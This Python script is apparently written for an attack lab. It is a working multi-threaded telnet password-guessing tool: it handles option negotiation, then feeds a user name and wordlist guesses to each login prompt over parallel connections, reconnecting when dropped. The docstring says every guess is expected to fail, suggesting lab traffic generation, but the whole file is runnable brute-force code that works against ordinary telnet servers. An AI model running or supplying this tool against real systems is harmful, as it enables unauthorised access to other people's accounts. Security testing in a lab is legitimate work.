"""Telnet password guessing for the attack lab, as brute-force tools do it (hydra's telnet module
stalls on inetutils telnetd's option negotiation): several connections at once, each answering
the server's option negotiation (RFC 854: refuse every option), then, at each login prompt, a
user name and the next guess, until the server says the login was incorrect; when login gives up
the connection, a new one (a worker gives up after three connections in a row that got no
answer to a guess). Every guess is expected to fail.

usage: telnet_bruteforce.py ADDRESS PORT USER GUESSES_FILE CONNECTIONS
"""

import socket
import sys
import threading
import time

IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240

address, port, user = sys.argv[1], int(sys.argv[2]), sys.argv[3]
with open(sys.argv[4]) as f:
    guesses = [line.strip() for line in f if line.strip()]
connections = int(sys.argv[5])
lock = threading.Lock()
refused = []
errors = []


def next_guess():
    with lock:
        return guesses.pop(0) if guesses else None


class Session:
    def __init__(self):
        self.sock = socket.create_connection((address, port), timeout=10)
        self.text = bytearray()

    def read_until(self, markers, seconds):
        """Reads, answering option negotiation, until one of `markers` appears after what was
        read before; False when the server closed the connection or time ran out."""
        deadline = time.monotonic() + seconds
        while True:
            lower = self.text.lower()
            for m in markers:
                at = lower.find(m)
                if at >= 0:
                    del self.text[: at + len(m)]
                    return True
            if time.monotonic() >= deadline:
                return False
            self.sock.settimeout(max(0.05, deadline - time.monotonic()))
            try:
                data = self.sock.recv(4096)
            except (socket.timeout, ConnectionError):
                return False
            if not data:
                return False
            i = 0
            while i < len(data):
                b = data[i]
                if b == IAC and i + 1 < len(data):
                    cmd = data[i + 1]
                    if cmd in (DO, DONT, WILL, WONT) and i + 2 < len(data):
                        opt = data[i + 2]
                        if cmd == DO:
                            self.sock.sendall(bytes([IAC, WONT, opt]))
                        elif cmd == WILL:
                            self.sock.sendall(bytes([IAC, DONT, opt]))
                        i += 3
                        continue
                    if cmd == SB:
                        end = data.find(bytes([IAC, SE]), i)
                        i = len(data) if end < 0 else end + 2
                        continue
                    i += 2
                    continue
                self.text.append(b)
                i += 1


def worker():
    session = None
    stalls = 0
    guess = next_guess()
    while guess is not None and stalls < 3:
        try:
            if session is None:
                session = Session()
            if not session.read_until([b"login:"], 10):
                session.sock.close()
                session = None
                stalls += 1
                continue
            session.sock.sendall(user.encode() + b"\r\n")
            if not session.read_until([b"password:"], 10):
                session.sock.close()
                session = None
                continue
            session.sock.sendall(guess.encode() + b"\r\n")
            if session.read_until([b"incorrect", b"failed"], 15):
                with lock:
                    refused.append(guess)
                guess = next_guess()
                stalls = 0
            else:
                session.sock.close()
                session = None
                stalls += 1
        except OSError as e:
            with lock:
                errors.append(str(e))
            if len(errors) > 20:
                return
            session = None
    if session is not None:
        session.sock.close()


threads = [threading.Thread(target=worker) for _ in range(connections)]
for t in threads:
    t.start()
for t in threads:
    t.join()
print(f"refused guesses: {len(refused)}; errors: {len(errors)}", flush=True)
if errors:
    print("\n".join(errors[:5]), flush=True)
